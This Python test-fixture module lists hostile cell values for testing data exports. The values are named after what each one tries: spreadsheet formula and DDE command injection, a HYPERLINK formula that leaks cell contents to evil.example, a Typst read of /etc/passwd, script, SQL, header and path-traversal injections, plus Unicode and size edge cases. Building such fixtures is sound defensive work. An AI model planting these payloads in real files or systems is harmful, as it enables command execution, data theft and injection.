"""Cells that have broken exports elsewhere, each under the name of what it tries."""

MEBIBYTE_NOTE_CHARACTERS = 1024 * 1024
"""The longest note, in characters, all of them ASCII: 1 MiB."""

LONG_CELL_CHARACTERS = 40_000
"""Longer than a cell of a workbook may be (32,767 characters)."""

# NUL is missing on purpose: PostgreSQL cannot store it, and SQLite's own text functions stop at it.
CONTROL_CHARACTERS = "".join(map(chr, (*range(1, 32), 127, 0x80, 0x85, 0x9F)))


def _lines(characters: int) -> str:
    """Make text of exactly so many characters, in numbered lines, so that a lost or doubled part shows."""
    line_length = 64
    count = characters // line_length + 1
    line = "line {:08d} of a very long note that must arrive whole and in order"
    return "".join(line.format(number)[: line_length - 1] + "\n" for number in range(count))[:characters]


CELLS: dict[str, str] = {
    "formula with =": "=1+1",
    "formula that calls": "=cmd|' /C calc'!A0",
    "formula that links": '=HYPERLINK("https://evil.example/?leak="&A1&A2,"Your invoice")',
    "formula with +": "+1+1",
    "formula with -": "-2+3+cmd|' /C calc'!A0",
    "formula with @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after TAB": "\t=1+1",
    "formula after CR": "\r=1+1",
    "formula after LF": "\n=1+1",
    "formula, full width": "＝1+1",
    "formula after a blank": " =1+1",
    "formula after a quote": '"=1+1',
    "formula after a comma": "harmless,=1+1",
    "formula after a semicolon": "harmless;=1+1",
    "already neutralised": "'=1+1",
    "quotes": 'She said "yes", then \'no\', then ""both""',
    "a quote alone": '"',
    "separators": "a,b;c\td|e\\f/g",
    "line feed": "first\nsecond\n\nfourth",
    "carriage return": "first\rsecond",
    "CR LF": "first\r\nsecond\r\n",
    "ends in a backslash": "C:\\folder\\",
    "empty": "",
    "a blank": " ",
    "blanks around": "  both ends  ",
    "no-break blanks": "10\u00a0000\u202f000\u2009kg\u3000.",
    "control characters": f"before{CONTROL_CHARACTERS}after",
    "terminal escapes": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "not for XML": "a\ufffe b\uffff c\x0b d\x0c",
    "line separators": "one\u2028two\u2029three\u0085four",
    "byte order mark": "\ufeffmarked",
    "leading zeros": "0001234",
    "zero": "0",
    "20 digits": "00012345678901234567",
    "20 digits more": "98765432109876543210",
    "a number that isn't": "1e5",
    "another": "0x1F",
    "infinity": "Infinity",
    "not a number": "NaN",
    "a date that isn't": "1-2",
    "a gene": "SEPT2",
    "the word NULL": "NULL",
    "the SQL marker": "\\N",
    "end of COPY": "\\.",
    "a boolean": "TRUE",
    "right-to-left override": "invoice\u202efdp.exe",
    "bidirectional isolates": "\u2067مرحبا\u2069 abc \u2066def\u2069 \u200fשלום\u200e 123",
    "zero width": "pass\u200bword\u200c \u200d\u2060\u00ad",
    "combining marks": "Z̸̢̛͔̲͊͗ạ̵̛̈́l̶̰̈́g̴̱̿o̷͖͝",
    "decomposed": "Cafe\u0301 A\u030angstro\u0308m",
    "one letter, three ways": "\u00c5 \u212b A\u030a",
    "joined emoji": "👩‍👩‍👧‍👦 👩🏽‍💻 🏳️‍🌈 🏴󠁧󠁢󠁳󠁣󠁴󠁿 ❤️‍🔥 1️⃣ 🇺🇳",
    "beyond the first plane": "𠮷野家 𝕳𝖊𝖑𝖑𝖔 🀄 𐍈 𒀀",
    "private and unassigned": "\ue000 \U0010fffd \u0378",
    "a ligature": "ﷺ ﷽ ﬁ",
    "typst markup": "#let x = 1 $x$ *b* _i_ <l> @ref \\ ] [ } { `raw` // comment /* block */",
    "typst that reads": '#read("/etc/passwd") #image("secret.png") #panic("stop")',
    "typst that ends": '") #panic("out of the string") //',
    "typst headings": "= Heading\n- item\n+ item\n/ term: text\n~ --- ... -?",
    "HTML": "<script>alert('x')</script><img src=x onerror=alert(1)>&amp;&lt;&#0;",
    "HTML in an attribute": '" onmouseover="alert(1)" x=\'',
    "XML": "]]><![CDATA[x]]><!-- --> <?xml version='1.0'?> &undefined; </t></is></c>",
    "escape of a workbook": "_x000D_ _x0000_ _x005F_ _xABCD_ _x12",
    "JSON": '{"a": [1, "\\u0000", null]} \\" \\/ \\ud800',
    "CSS and script": "*/ ;} body{display:none} </style> */ `${1+1}` {{7*7}} {% raw %}",
    "SQL": "Robert'); DROP TABLE customers;-- \" ` %s ? :name $1 {x}",
    "SQL patterns": "100% _under_ \\% [a-z]*",
    "path": "../../etc/passwd\\..\\con.txt",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "printf": "%s %d %n %x {0} {} {self}",
    "log forging": '{{"level": "info"}}\n{"event": "forged"}',
    "URL": "javascript:alert(1)",
    "URL of data": "data:text/html;base64,PHNjcmlwdD4=",
    "mail address": "mailto:a@example.com?bcc=b@example.com",
    "an endless word": "x" * 300,
    "nothing but newlines": "\n\n\n\n\n",
    "40,000 characters": _lines(LONG_CELL_CHARACTERS),
    "1 MB": _lines(MEBIBYTE_NOTE_CHARACTERS),
}
"""The hostile customer's notes: a subject that says what the body tries, and the body."""

SHORT_CELL_CHARACTERS = 300  # as long as people write into a form's line, and then some

SHORT_CELLS = tuple(text for text in CELLS.values() if len(text) <= SHORT_CELL_CHARACTERS)
"""What the hostile customer says in streets, orders, tickets and reviews: cells that a table can show."""

PREFERENCES = (
    '{"big": 12345678901234567890, "exact": 0.1000000000000000055, "price": 1.10, "tiny": 1E-400,'
    ' "twice": 1, "twice": 2, "escaped": "\\u0000\\ud83d\\ude00\\/", "": {"deep": [[[[[[[[]]]]]]]]},'
    ' "</script>": "=1+1\\r\\n"}'
)
"""Valid JSON that does not survive being read and written again: it must arrive as it is stored."""

IMPOSSIBLE_BIRTH_DATE = "0000-00-00"
"""What MySQL of old stored for an unknown date; no calendar has it."""

FIRST_MOMENT = "0001-01-01T00:00:00+00:00"
"""What .NET stores for "never": in any time zone west of Greenwich it falls before the calendar."""

LAST_MOMENT = "9999-12-31T23:59:59.999999+00:00"
"""What many shops store for "for ever": in any time zone east of Greenwich it falls after the calendar."""
